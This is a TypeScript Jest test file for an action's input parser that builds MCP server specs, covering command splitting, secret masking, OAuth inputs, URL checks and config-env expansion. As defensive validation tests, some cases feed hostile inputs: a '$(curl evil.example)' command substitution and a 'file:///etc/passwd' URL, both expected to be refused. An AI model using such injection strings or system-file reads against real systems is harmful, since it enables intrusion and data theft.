import { jest } from '@jest/globals';
import { limitsFromInputs, serverSpecFromInputs } from '../../src/action/server-inputs.js';
import { DEFAULT_LIMITS } from '../../src/mcp/server/server-spec.js';
import { codeOf, messageOf } from '../support/thrown.js';

// The server an action's inputs name, read as the runner hands them over (INPUT_<NAME> in the
// environment, read by @actions/core): one server input at a time, the command split without a shell,
// header and environment values masked (`::add-mask::` on stdout), a config file's variables expanded
// only from those config-env names, and the bounds. Each refusal beside the input it takes.

const set: string[] = [];
function inputs(values: Record<string, string>): void {
  for (const [name, value] of Object.entries(values)) {
    const key = `INPUT_${name.replace(/ /g, '_').toUpperCase()}`;
    process.env[key] = value;
    set.push(key);
  }
}

let masks: string[];
let write: ReturnType<typeof jest.spyOn>;
beforeEach(() => {
  masks = [];
  // The masks the runner is told of, as @actions/core writes them on stdout; nothing else is printed.
  write = jest.spyOn(process.stdout, 'write').mockImplementation((chunk: unknown) => {
    const m = /^::add-mask::(.*)$/m.exec(String(chunk));
    if (m) masks.push(m[1]!);
    return true;
  });
});
afterEach(() => {
  write.mockRestore();
  for (const key of set.splice(0)) delete process.env[key];
  delete process.env.TOOLSEAL_TEST_TOKEN;
  delete process.env.TOOLSEAL_TEST_OTHER;
});

describe('serverSpecFromInputs: which server', () => {
  it('none, or two at once, is a usage error naming the inputs', () => {
    expect(messageOf(() => serverSpecFromInputs())).toBe('no server given: set one of snapshot, server-command, server-url or config');
    inputs({ 'server-command': 'node server.mjs', 'server-url': 'https://mcp.example.com/mcp' });
    expect(codeOf(() => serverSpecFromInputs())).toBe('USAGE');
    expect(messageOf(() => serverSpecFromInputs())).toBe('set one server input, not server-command and server-url');
  });

  it('a snapshot file is the snapshot', () => {
    inputs({ snapshot: 'snap.json' });
    expect(serverSpecFromInputs()).toEqual({ kind: 'snapshot', file: 'snap.json' });
  });

  it('a server the registry entry names stands in for the inputs', () => {
    expect(serverSpecFromInputs({ command: ['npx', '-y', 'files-server@1.2.3'] })).toMatchObject({
      kind: 'stdio',
      command: 'npx',
      args: ['-y', 'files-server@1.2.3'],
    });
  });
});

describe('serverSpecFromInputs: server-command', () => {
  it('splits words, quotes grouping them, or takes a JSON array as it is; its env and cwd and id', () => {
    inputs({ 'server-command': `node "my server.mjs" --name 'a b'`, 'server-cwd': 'srv', 'server-id': 'files' });
    expect(serverSpecFromInputs()).toEqual({
      kind: 'stdio',
      command: 'node',
      args: ['my server.mjs', '--name', 'a b'],
      env: {},
      cwd: 'srv',
      serverId: 'files',
    });
    inputs({ 'server-command': '["node", "server.mjs", "--flag=$HOME"]' });
    expect(serverSpecFromInputs()).toMatchObject({ command: 'node', args: ['server.mjs', '--flag=$HOME'] });
  });

  it('masks each server-env value, and the value an argument sets', () => {
    inputs({ 'server-command': 'node server.mjs --api-key=ak-0123456789abcdef', 'server-env': 'TOKEN=tok-0123456789abcdef\nMODE=x' });
    expect(serverSpecFromInputs()).toMatchObject({ env: { TOKEN: 'tok-0123456789abcdef', MODE: 'x' } });
    expect(masks).toEqual(expect.arrayContaining(['tok-0123456789abcdef', 'ak-0123456789abcdef']));
  });

  it.each([
    ['a server-env line without K=', { 'server-command': 'node s.mjs', 'server-env': '=value' }, 'server-env takes one K=V per line'],
    [
      'a "[" that is not JSON (its text not repeated)',
      { 'server-command': '[node, "tok-secret"' },
      'server-command starts with "[" but is not a JSON array of strings',
    ],
    ['a JSON array of other things', { 'server-command': '["node", 5]' }, 'server-command as JSON must be a non-empty array of strings'],
    ['an empty JSON array', { 'server-command': '[]' }, 'server-command as JSON must be a non-empty array of strings'],
  ])('refuses %s', (_what, given, message) => {
    inputs(given);
    expect(codeOf(() => serverSpecFromInputs())).toBe('USAGE');
    expect(messageOf(() => serverSpecFromInputs())).toBe(message);
  });
});

describe('serverSpecFromInputs: server-url', () => {
  it('its headers and transport, each header value masked (and a bearer token alone)', () => {
    inputs({
      'server-url': 'https://mcp.example.com/mcp',
      'server-headers': 'Authorization: Bearer tok-0123456789abcdef\nX-Team: blue',
      'server-transport': 'sse',
    });
    expect(serverSpecFromInputs()).toEqual({
      kind: 'url',
      url: 'https://mcp.example.com/mcp',
      transport: 'sse',
      headers: { Authorization: 'Bearer tok-0123456789abcdef', 'X-Team': 'blue' },
      serverId: undefined,
    });
    expect(masks).toEqual(expect.arrayContaining(['Bearer tok-0123456789abcdef', 'tok-0123456789abcdef']));
  });

  it('the client credentials grant from the oauth inputs, its secret masked; its halves alone are refused', () => {
    inputs({ 'server-url': 'https://mcp.example.com/mcp', 'oauth-client-id': 'ci', 'oauth-client-secret': 'cs-0123456789abcdef' });
    expect(serverSpecFromInputs()).toMatchObject({
      oauth: { clientId: 'ci', clientSecret: 'cs-0123456789abcdef', clientCredentials: true, open: [] },
    });
    expect(masks).toContain('cs-0123456789abcdef');
    delete process.env['INPUT_OAUTH-CLIENT-SECRET'];
    expect(messageOf(() => serverSpecFromInputs())).toBe(
      'oauth-client-id and oauth-client-secret go together (the client credentials grant)',
    );
  });

  it.each([
    ['a URL that is no URL', { 'server-url': 'not a url' }, 'server-url is not a URL'],
    ['a URL of another scheme', { 'server-url': 'file:///etc/passwd' }, 'server-url must be an http or https URL, not file:'],
    [
      'an Authorization header beside the oauth inputs',
      {
        'server-url': 'https://x.example/mcp',
        'server-headers': 'Authorization: Bearer t',
        'oauth-client-id': 'ci',
        'oauth-client-secret': 'cs',
      },
      'give an Authorization header in server-headers or the oauth-client-* inputs, not both',
    ],
    [
      'a client metadata URL that is not https',
      { 'server-url': 'https://x.example/mcp', 'oauth-client-metadata-url': 'http://x.example/client.json' },
      'oauth-client-metadata-url must be an https URL with a path, without user name, fragment or "." and ".." segments: it is not https',
    ],
  ])('refuses %s', (_what, given, message) => {
    inputs(given);
    expect(codeOf(() => serverSpecFromInputs())).toBe('USAGE');
    expect(messageOf(() => serverSpecFromInputs())).toBe(message);
  });
});

describe('serverSpecFromInputs: config', () => {
  it('expands only the variables config-env names (masked); the others are withheld, by name', () => {
    process.env.TOOLSEAL_TEST_TOKEN = 'tok-0123456789abcdef';
    process.env.TOOLSEAL_TEST_OTHER = 'other-0123456789abcdef';
    inputs({ config: '.mcp.json', server: 'files', 'config-env': 'TOOLSEAL_TEST_TOKEN, NOT_SET_ANYWHERE' });
    const spec = serverSpecFromInputs() as Extract<ReturnType<typeof serverSpecFromInputs>, { kind: 'config' }>;
    expect(spec).toMatchObject({
      kind: 'config',
      file: '.mcp.json',
      server: 'files',
      env: { TOOLSEAL_TEST_TOKEN: 'tok-0123456789abcdef' },
    });
    expect(Object.keys(spec.env!)).toEqual(['TOOLSEAL_TEST_TOKEN']);
    expect(spec.envWithheld!.has('TOOLSEAL_TEST_OTHER')).toBe(true);
    expect(spec.envWithheld!.has('TOOLSEAL_TEST_TOKEN')).toBe(false);
    expect(masks).toContain('tok-0123456789abcdef');
    expect(masks).not.toContain('other-0123456789abcdef');
  });

  it('without server, all of its servers; a config-env entry that is not a name is refused', () => {
    inputs({ config: '.mcp.json' });
    expect(serverSpecFromInputs()).toMatchObject({ kind: 'config', all: true, env: {} });
    inputs({ 'config-env': 'GOOD, $(curl evil.example)' });
    expect(messageOf(() => serverSpecFromInputs())).toBe('config-env takes variable names, not "$(curl"');
  });
});

describe('limitsFromInputs', () => {
  it('the defaults with no input; timeout in seconds and max-tools as given', () => {
    expect(limitsFromInputs()).toEqual(DEFAULT_LIMITS);
    inputs({ timeout: '2.5', 'max-tools': '7' });
    expect(limitsFromInputs()).toMatchObject({ timeoutMs: 2500, maxTools: 7 });
  });

  it.each([
    [{ timeout: 'soon' }, 'timeout takes a positive number, not "soon"'],
    [{ timeout: '-1' }, 'timeout takes a positive number, not "-1"'],
    [{ 'max-tools': '0' }, 'max-tools takes a positive number, not "0"'],
  ])('refuses %j', (given, message) => {
    inputs(given);
    expect(codeOf(() => limitsFromInputs())).toBe('USAGE');
    expect(messageOf(() => limitsFromInputs())).toBe(message);
  });
});
